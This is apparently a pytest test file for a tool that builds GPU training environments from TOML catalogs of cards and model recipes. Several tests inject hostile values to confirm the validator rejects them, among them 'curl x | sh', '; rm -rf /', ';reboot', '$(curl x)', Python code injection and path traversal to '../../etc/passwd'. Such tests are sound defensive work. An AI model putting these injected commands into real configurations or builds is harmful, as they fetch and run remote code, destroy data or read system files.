import pytest

from envbuild import catalog
from envbuild.errors import BadInput, CatalogError

REQUIRED_CARDS = ["v100", "t4", "a10", "a30", "a100", "a800", "a40", "l4", "l20", "l40s",
                  "rtx3090", "rtx4090", "h20", "h100", "h800", "h200", "b200"]


def test_catalog_has_models_and_cards(cat):
    assert {"maptr", "sparsedrive", "qcnet", "gaussianformer"} <= set(cat.models)
    assert set(REQUIRED_CARDS) <= set(cat.cards)


@pytest.mark.parametrize("name,expected", [
    ("A100-80G", "a100"), ("4090", "rtx4090"), ("RTX 4090", "rtx4090"), ("NVIDIA H20", "h20"),
    ("h200", "h200"), ("GeForce RTX 3090", "rtx3090"), ("l40s", "l40s"), ("3090", "rtx3090"),
])
def test_card_names_and_aliases(cat, name, expected):
    assert cat.card(name).id == expected


def test_unknown_card_suggests_close_names(cat):
    with pytest.raises(BadInput) as exc:
        cat.card("h2")
    assert "h20" in exc.value.hint


def test_upstream_pins_follow_the_repos(cat):
    maptr = cat.model("maptr")
    assert (maptr.torch, maptr.cuda, maptr.packages["mmcv-full"]) == ("1.9.1", "11.1", "1.4.0")
    assert maptr.vendored["mmdet3d"][0] == "0.17.2"
    assert maptr.train.local_rank_arg == "--local_rank"
    sd = cat.model("sparsedrive")
    assert (sd.torch, sd.cuda, sd.packages["flash-attn"]) == ("1.13.0", "11.6", "2.3.2")
    qc = cat.model("qcnet")
    assert "mmdet3d" not in qc.packages and qc.train.launcher == "lightning"
    gf = cat.model("gaussianformer")
    assert gf.packages["mmcv"] == "2.0.1" and gf.train.launcher == "mp.spawn"


def test_card_facts(cat):
    assert cat.card("h20").cc == "9.0" and cat.card("l20").cc == "8.9"
    assert cat.card("rtx4090").p2p is False and cat.card("a100").p2p is True


def _edit(path, old, new):
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("file,old,new,key", [
    ("cards.toml", 'cc = "8.0"', 'cc = "eight"', "cards.a30.cc"),
    ("cards.toml", "p2p = true", 'p2p = "yes"', "cards.v100.p2p"),
    ("models/maptr.toml", '"mmcv-full" = "1.4.0"', '"mmcv-full" = "1.4.0\\nRUN curl evil"', "mmcv-full"),
    ("models/maptr.toml", '"mmcv-full" = "1.4.0"', '"mmcv-full" = "1.4.0; rm -rf /"', "mmcv-full"),
    ("models/maptr.toml", 'build = "python setup.py develop"', 'build = "python setup.py develop && curl x | sh"', "extensions[0].build"),
    ("models/maptr.toml", 'path = "mmdetection3d"\nbuild', 'path = "../../etc"\nbuild', "extensions[0].path"),
    ("models/maptr.toml", 'launcher = "torch.distributed.launch"', 'launcher = "deepspeed"', "train.launcher"),
    ("models/maptr.toml", 'version = "1.9.1"', 'version = "1.9.7"', "torch.version"),
    ("models/maptr.toml", 'commit = "a6872d8d9670bde17b4b01560f1221f88b443d55"', 'commit = "main"', "model.commit"),
    ("toolchains/cuda.toml", "max_gcc = 10", 'max_gcc = "10"', "cuda.11.1.max_gcc"),
    ("toolchains/torch.toml", 'pypi = "10.2"', 'pypi = "9.9"', "pypi"),
    ("toolchains/torch.toml", 'compile_python_max = "3.10"', 'compile_python_max = "yes"', "compile_python_max"),
    ("models/sparsedrive.toml", '"runner.max_iters={steps}"', '"runner.max_iters={steps};reboot"', "train.steps_args"),
    ("models/sparsedrive.toml", '"runner.max_iters={steps}"', '"{os.system}"', "train.steps_args"),
    ("models/maptr.toml", "tkinter = ", "curses = ", "stdlib_modules.curses"),
    ("toolchains/packages.toml", 'layers_clash_from = "1.4.6"', 'layers_clash_from = "soon"', "layers_clash_from"),
])
def test_malformed_entry_names_file_key_reason(matrices_copy, file, old, new, key):
    _edit(matrices_copy / file, old, new)
    with pytest.raises(CatalogError) as exc:
        catalog.load(matrices_copy)
    msg = exc.value.message
    assert file.split("/")[-1] in msg and key in msg, msg


def test_broken_toml_is_reported_with_file(matrices_copy):
    (matrices_copy / "cards.toml").write_text("[cards.x\n")
    with pytest.raises(CatalogError, match="cards.toml.*not valid TOML"):
        catalog.load(matrices_copy)


def test_adding_a_card_is_one_entry(matrices_copy):
    with open(matrices_copy / "cards.toml", "a") as fh:
        fh.write('\n[cards.rtx6000ada]\nname = "NVIDIA RTX 6000 Ada"\ncc = "8.9"\nmemory_gb = 48\n'
                 'p2p = true\naliases = ["6000ada"]\n')
    cat = catalog.load(matrices_copy)
    assert cat.card("6000ADA").cc == "8.9"


def test_adding_a_model_is_one_file(matrices_copy):
    text = (matrices_copy / "models" / "qcnet.toml").read_text().replace('name = "qcnet"', 'name = "qcnet2"')
    (matrices_copy / "models" / "qcnet2.toml").write_text(text)
    cat = catalog.load(matrices_copy)
    assert cat.model("QCNet2").torch == "2.0.1"


def test_construct_recipe_is_validated(matrices_copy):
    from envbuild.errors import CatalogError
    path = matrices_copy / "models" / "qcnet.toml"
    text = path.read_text()
    for old, new, says in (('kind = "argparse"', 'kind = "exec"', "is not one of argparse"),
                           ('module = "predictors"', 'module = "predictors; import os"', "invalid value"),
                           ('"--dataset", "argoverse_v2"', '"--dataset", "$(curl x)"', "invalid entry")):
        path.write_text(text.replace(old, new))
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)
    path.write_text(text)
    gf = matrices_copy / "models" / "gaussianformer.toml"
    gf_text = gf.read_text()
    for old, new, says in (('builder = "mmseg.models.build_segmentor"', 'builder = "mmseg.models.build_segmentor()"', "invalid value"),
                           ('config = "config/nuscenes_gs25600_solid.py"\nloader', 'config = "../../etc/passwd"\nloader', "construct.config: invalid value"),
                           ('imports = ["model"]', 'imports = ["model"]\nargs_hook = "add_args"', "not a field of construct kind 'config'"),
                           ('loader = "mmengine.Config.fromfile"\n', '', "loader: missing")):
        gf.write_text(gf_text.replace(old, new))
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)
    gf.write_text(gf_text)
    assert catalog.load(matrices_copy).model("gaussianformer").construct.to_dict() == {
        "kind": "config", "config": "config/nuscenes_gs25600_solid.py", "loader": "mmengine.Config.fromfile",
        "builder": "mmseg.models.build_segmentor", "imports": ("model",)}
    plan_construct = catalog.load(matrices_copy).model("qcnet").construct
    assert plan_construct.object == "QCNet" and "--num_recurrent_steps" in plan_construct.args


def test_the_plan_carries_the_construct_recipe_to_the_image(cat):
    from envbuild.resolve import resolve
    plan = resolve(cat, "qcnet", "a800")
    assert plan.to_dict()["construct"]["args_hook"] == "add_model_specific_args"
    sd = resolve(cat, "sparsedrive", "a800").to_dict()["construct"]
    assert sd["builder"] == "mmdet.models.build_detector" and "data/kmeans/kmeans_det_900.npy=900x11" in sd["arrays"]


def test_construct_arrays_are_validated(matrices_copy):
    from envbuild.errors import CatalogError
    path = matrices_copy / "models" / "sparsedrive.toml"
    text = path.read_text()
    for new, says in (('"data/kmeans/kmeans_det_900.npy=900x11"', None),
                      ('"data/../../etc/x.npy=1"', "must stay inside the repository"),
                      ('"data/k.npy=0x11"', "invalid entry"),
                      ('"data/k.txt=9"', "invalid entry"),
                      ('"data/k.npy=9; rm -rf /"', "invalid entry")):
        path.write_text(text.replace('"data/kmeans/kmeans_det_900.npy=900x11"', new))
        if says is None:
            assert catalog.load(matrices_copy).model("sparsedrive").construct.arrays[0] == "data/kmeans/kmeans_det_900.npy=900x11"
            continue
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)
